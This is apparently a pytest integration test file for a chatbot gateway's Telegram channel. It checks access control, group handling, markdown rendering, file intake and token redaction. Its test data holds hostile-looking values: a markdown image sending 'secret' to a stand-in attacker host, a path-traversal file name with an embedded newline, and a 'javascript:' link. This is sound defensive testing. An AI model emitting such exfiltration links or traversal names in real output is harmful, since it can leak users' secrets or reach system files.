"""Telegram through the whole gateway: the real library, a strict loopback Bot API, a scripted model."""

from __future__ import annotations

import asyncio
import logging
import subprocess
import sys
from pathlib import Path

import pytest

from nanobot.messages import ToolCall
from nanobot.providers.scripted import Reply, ScriptedProvider
from tests.channels.conftest import config_for, echo
from tests.gateway.conftest import running_gateway
from tests.peers.telegram_api import TOKEN, TelegramServer

PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
BOT = "nano_bot"


async def confirmed(server: TelegramServer) -> None:
    """Until nothing waits for the bot any more."""
    await server.wait_for(lambda: not server.updates)


async def test_a_direct_message_is_answered(server: TelegramServer) -> None:
    ann = server.user(7, "ann", "Ann")
    async with running_gateway(config_for(server), ScriptedProvider(echo)) as (app, gateway):
        ann.send("hello")
        await server.wait_for(lambda: server.texts(ann) == ["you said: hello"])
        await confirmed(server)
        assert await app.store.sessions.get("telegram:7") is not None
        assert gateway.channels.status["telegram"].state == "connected"
    assert (ann.id, None, "typing") in server.actions


async def test_what_was_sent_while_the_gateway_was_down_is_answered_in_order(server: TelegramServer) -> None:
    ann = server.user(7)
    for number in range(3):
        ann.send(f"m{number}")
    async with running_gateway(config_for(server), ScriptedProvider(echo)):
        expected = [f"you said: m{number}" for number in range(3)]
        await server.wait_for(lambda: server.texts(ann) == expected)


async def test_a_message_that_comes_again_is_accepted_once(server: TelegramServer) -> None:
    ann = server.user(7)
    async with running_gateway(config_for(server), ScriptedProvider(echo)) as (_, gateway):
        message = ann.send("once")
        await server.wait_for(lambda: server.texts(ann))
        server.add_update("message", message)
        ann.send("twice")
        await server.wait_for(lambda: server.texts(ann) == ["you said: once", "you said: twice"])
        assert gateway.channels.status["telegram"].received == 2


async def test_strangers_get_nothing_not_even_help(server: TelegramServer) -> None:
    ann, eve = server.user(7, "ann"), server.user(8, "7")
    eve_named = server.user(9, "eve")
    provider = ScriptedProvider(echo)
    async with running_gateway(config_for(server, allowFrom=["7"]), provider) as (app, gateway):
        for stranger in (eve, eve_named):
            for text in ("/start", "/help", "hi", "@ann"):
                stranger.send(text)
            stranger.send(photo=PNG)
        ann.send("hi")
        await server.wait_for(lambda: server.texts())
        await confirmed(server)
        assert server.texts() == ["you said: hi"]
        assert gateway.channels.status["telegram"].refused == 10
        assert await app.store.sessions.get("telegram:8") is None
    assert server.count("getFile") == 0
    assert {chat for chat, _, _ in server.actions} == {7}
    assert len(provider.requests) == 1


async def test_user_names_are_allowed_with_and_without_the_at(server: TelegramServer) -> None:
    ann, ben, eve = server.user(7, "Ann_A"), server.user(8, "ben_b"), server.user(9, "eve_e")
    config = config_for(server, allowFrom=["@ann_a", "ben_b"])
    async with running_gateway(config, ScriptedProvider(echo)):
        for user in (eve, ann, ben):
            user.send("hi")
        await server.wait_for(lambda: server.texts(ann) and server.texts(ben))
        assert server.texts(eve) == []


async def test_start_and_commands(server: TelegramServer) -> None:
    ann = server.user(7)
    async with running_gateway(config_for(server), ScriptedProvider(echo)):
        ann.send("/start from-a-link")
        await server.wait_for(lambda: len(server.texts(ann)) == 1)
        assert "/new" in server.texts(ann)[0]
        ann.send(f"/stop@{BOT}")
        await server.wait_for(lambda: server.texts(ann)[1:] == ["Nothing is running."])
        names = [command["command"] for command in server.commands["default"]]
        assert {"new", "help", "stop"} <= set(names)


async def test_a_refused_menu_does_not_stop_the_bot(server: TelegramServer) -> None:
    server.fail("setMyCommands", 400)
    ann = server.user(7)
    async with running_gateway(config_for(server), ScriptedProvider(echo)):
        ann.send("hi")
        await server.wait_for(lambda: server.texts(ann))


async def test_groups_by_mention_reply_and_command(server: TelegramServer) -> None:
    ann, group = server.user(7, "ann"), server.group(-100, "Friends")
    async with running_gateway(config_for(server), ScriptedProvider(echo)):
        ann.send("not for you", chat=group)
        ann.send("nor this, @nano_bottle", chat=group)
        ann.send("/help@other_bot", chat=group)
        ann.send("🎉🎉 what, @Nano_Bot is this?", chat=group)
        await server.wait_for(lambda: server.texts(group) == ["you said: 🎉🎉 what, is this?"])
        ann.send("and now?", chat=group, reply_to=server.sent[0].message_id)
        await server.wait_for(lambda: server.texts(group)[1:] == ["you said: and now?"])
        ann.send(f"@{BOT}", chat=group, photo=PNG)
        await server.wait_for(lambda: len(server.texts(group)) == 3)
        ann.send(f"/help@{BOT}", chat=group)
        await server.wait_for(lambda: any("/new" in text for text in server.texts(group)))


async def test_an_open_group_and_who_may_speak_in_it(server: TelegramServer) -> None:
    ann, eve, group = server.user(7, "ann"), server.user(8, "eve"), server.group(-100, "Friends")
    config = config_for(server, groupPolicy="open", allowFrom=["7"])
    async with running_gateway(config, ScriptedProvider(echo)):
        eve.send(f"@{BOT} let me in", chat=group)
        ann.send("/help@other_bot", chat=group)
        ann.send("anyone?", chat=group)
        await server.wait_for(lambda: server.texts(group) == ["you said: anyone?"])


async def test_topics_are_conversations_of_their_own(server: TelegramServer) -> None:
    ann = server.user(7)
    group = server.group(-100, "Work", topics={5: "Bugs", 6: "Ideas"})
    async with running_gateway(config_for(server), ScriptedProvider(echo)) as (app, _):
        ann.send("the topic's opening is no message of mine", chat=group, thread=5)
        ann.send(f"@{BOT} one", chat=group, thread=5)
        ann.send(f"@{BOT} two", chat=group, thread=6)
        ann.send(f"@{BOT} three", chat=group)
        await server.wait_for(lambda: len(server.texts(group)) == 3)
        shown = {(sent.thread_id, sent.text) for sent in server.sent}
        assert shown == {(5, "you said: one"), (6, "you said: two"), (None, "you said: three")}
        for key in ("telegram:-100:5", "telegram:-100:6", "telegram:-100"):
            assert await app.store.sessions.get(key) is not None


async def test_bots_channels_and_hidden_senders_are_not_answered(server: TelegramServer) -> None:
    ann, group = server.user(7), server.group(-100, "Friends")
    robot = {"id": 55, "is_bot": True, "first_name": "Robot", "username": "robot"}
    async with running_gateway(config_for(server, groupPolicy="open"), ScriptedProvider(echo)):
        server.add_update("message", {**server.new_message(group, robot), "text": f"@{BOT} hi"})
        anonymous = server.new_message(group, {**robot, "id": 1087968824, "username": "GroupAnonymousBot"})
        server.add_update("message", {**anonymous, "text": "hi", "sender_chat": group.to_json()})
        joined = server.new_message(group, ann.to_json())
        server.add_update("message", {**joined, "new_chat_members": [robot]})
        ann.edit(ann.send("first", chat=group), "second")
        await server.wait_for(lambda: server.texts(group))
        await confirmed(server)
        assert server.texts(group) == ["you said: first"]


async def test_a_listed_group_admits_its_anonymous_administrators(server: TelegramServer) -> None:
    group = server.group(-100, "Friends")
    hidden = {"id": 1087968824, "is_bot": True, "first_name": "Group", "username": "GroupAnonymousBot"}
    config = config_for(server, groupPolicy="open", allowFrom=["-100"])
    async with running_gateway(config, ScriptedProvider(echo)):
        message = server.new_message(group, hidden)
        server.add_update("message", {**message, "text": "hi", "sender_chat": group.to_json()})
        await server.wait_for(lambda: server.texts(group) == ["you said: hi"])


async def test_long_answers_keep_their_code_in_fences(server: TelegramServer) -> None:
    code = "\n".join(f"line_{number} = '<&>' * {number}" for number in range(500))
    ann = server.user(7)
    provider = ScriptedProvider([f"# Look\n\n```python\n{code}\n```\n\nThat is *all*."])
    async with running_gateway(config_for(server), provider):
        ann.send("code, please")
        await server.wait_for(lambda: any("That is all." in text for text in server.texts(ann)))
    pieces = server.texts(ann)
    assert len(pieces) == 3
    shown = [line for piece in pieces for line in piece.splitlines() if line.startswith("line_")]
    assert shown == code.splitlines()
    for sent in server.sent[:-1]:
        assert {entity.type for entity in sent.entities} >= {"pre"}


TORTURE = (
    "**bold _both** cross_ ~~gone~~ <b>raw</b> & &amp; [x](javascript:1) [ok](https://e.org/?a=1&b=2)\n"
    "> quote\n> > deeper `code` **`both`**\n\n| a | b |\n|---|--:|\n| 1 | <2> |\n\n"
    "1. one\n   - two\n     ```\n     <pre>\n     ```\n\n```py\nunclosed <fence> & so"
)


async def test_no_markdown_is_refused(server: TelegramServer) -> None:
    ann = server.user(7)
    steps = [TORTURE, *(TORTURE[cut:] for cut in range(3, 60, 9)), "\\_*[]()~`>#+-=|{}.!"]
    async with running_gateway(config_for(server), ScriptedProvider(steps)):
        for number in range(len(steps)):
            ann.send(f"m{number}")
        await server.wait_for(lambda: len(server.texts(ann)) == len(steps), 20)
    assert all("unclosed <fence> & so" in text for text in server.texts(ann)[:-1])
    assert not any("parse_mode" not in call for name, call in server.calls if name == "sendMessage")


async def test_refused_html_goes_out_as_plain_text(
    server: TelegramServer, caplog: pytest.LogCaptureFixture
) -> None:
    server.fail("sendMessage", 400, description="Bad Request: can't parse entities: unsupported start tag")
    ann = server.user(7)
    channels = {"sendProgress": False}
    provider = ScriptedProvider(["**bold** [link](https://e.org/x)"])
    async with running_gateway(config_for(server, channels=channels), provider):
        ann.send("hi")
        await server.wait_for(lambda: server.texts(ann) == ["bold link (https://e.org/x)"])
    assert "unformatted" in caplog.text


async def test_replies_quote_the_question_when_wanted(server: TelegramServer) -> None:
    ann = server.user(7)
    async with running_gateway(config_for(server, replyToMessage=True), ScriptedProvider(echo)):
        question = ann.send("quote me")
        await server.wait_for(lambda: server.sent)
        gone = ann.send("I am deleted")
        del server.messages[7, gone["message_id"]]
        await server.wait_for(lambda: len(server.sent) == 2)
    assert [sent.reply_to for sent in server.sent] == [question["message_id"], None]


async def test_links_are_not_previewed(server: TelegramServer) -> None:
    ann = server.user(7)
    async with running_gateway(config_for(server), ScriptedProvider(["![](https://evil.example/?q=secret)"])):
        ann.send("hi")
        await server.wait_for(lambda: server.texts(ann))
    calls = [call for name, call in server.calls if name in ("sendMessage", "editMessageText")]
    assert all(call["link_preview_options"] == {"is_disabled": True} for call in calls)


async def test_files_come_in(server: TelegramServer, home: Path) -> None:
    ann = server.user(7)
    provider = ScriptedProvider(lambda request: str(len(request.messages)))
    async with running_gateway(config_for(server), provider):
        ann.send("a photo", photo=PNG)
        ann.send("a file", document=("../../etc/pass\nwd.txt", b"root"))
        ann.send(voice=b"OggS")
        await server.wait_for(lambda: len(server.texts(ann)) == 3)
    folder = home / "media" / "telegram"
    assert {path.read_bytes() for path in folder.iterdir()} == {PNG, b"OggS", b"root"}
    notes = [str(request.messages[-1].parts) for request in provider.requests]
    assert "ImagePart" in notes[0]
    assert "text/plain: " in notes[1]
    assert "\\n" not in notes[1].split("/media/telegram/")[1].split("]")[0]
    assert "audio/ogg: " in notes[2]


async def test_a_file_that_is_too_large_says_so(server: TelegramServer) -> None:
    ann = server.user(7)
    provider = ScriptedProvider(["what a pity"])
    async with running_gateway(config_for(server), provider):
        ann.send("my film", document=("film.bin", bytes(21 << 20)))
        await server.wait_for(lambda: server.texts(ann))
    assert "no files over 20 MB" in str(provider.requests[0].messages[-1].parts)


async def test_files_go_out_photos_as_photos(server: TelegramServer) -> None:
    ann = server.user(7)
    config = config_for(server)
    workspace = config.workspace_path
    workspace.mkdir(parents=True)
    names = ("real.png", "fake.png", "notes.txt")
    for name, data in zip(names, (PNG, b"no image at all", b"notes"), strict=True):
        (workspace / name).write_bytes(data)
    call = ToolCall("c1", "message", {"content": "Here:", "media": list(names)})
    async with running_gateway(config, ScriptedProvider([Reply(tool_calls=[call]), "done"])):
        ann.send("files, please")
        await server.wait_for(lambda: len(server.sent) == 4)
    shown = [(sent.kind, sent.text, sent.file_name) for sent in server.sent]
    assert shown == [
        ("text", "Here:", ""),
        ("photo", "", "real.png"),
        ("document", "", "fake.png"),
        ("document", "", "notes.txt"),
    ]


async def test_a_streamed_answer_ends_as_one_message(server: TelegramServer) -> None:
    ann, rest = server.user(7), asyncio.Event()
    reply = Reply(
        "Well, **let me think**, yes.", chunks=["Well, **let", " me think**, yes."], delay=1.2, wait=rest
    )
    async with running_gateway(config_for(server), ScriptedProvider([reply])):
        ann.send("hi")
        await server.wait_for(lambda: server.texts(ann))
        partial = server.texts(ann)[0]
        assert partial.startswith("Well, ")
        rest.set()
        await server.wait_for(lambda: any(e.type == "bold" for sent in server.sent for e in sent.entities))
        await confirmed(server)
    assert server.texts(ann) == ["Well, let me think, yes."]


async def test_the_token_is_in_no_log(server: TelegramServer, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    ann = server.user(7)
    server.drop("getUpdates")
    server.fail("sendMessage", 500)
    async with running_gateway(config_for(server), ScriptedProvider(echo)) as (_, gateway):
        ann.send("hi", photo=PNG)
        await server.wait_for(lambda: server.texts(ann))
        assert TOKEN not in str(await gateway.report())
    assert TOKEN not in caplog.text
    assert TOKEN.split(":")[1] not in caplog.text


_LOAD = """
import sys
from nanobot.channels.registry import load_channel
load_channel("telegram")
print([name for name in ("rich", "cryptography", "httpx._main") if name in sys.modules])
import cryptography, httpx._main
"""


def test_the_library_brings_no_more_than_is_used() -> None:
    """Passports and the command line of httpx took 15 MB; others still find them afterwards."""
    ended = subprocess.run([sys.executable, "-c", _LOAD], capture_output=True, text=True, check=True)
    assert ended.stdout == "[]\n"
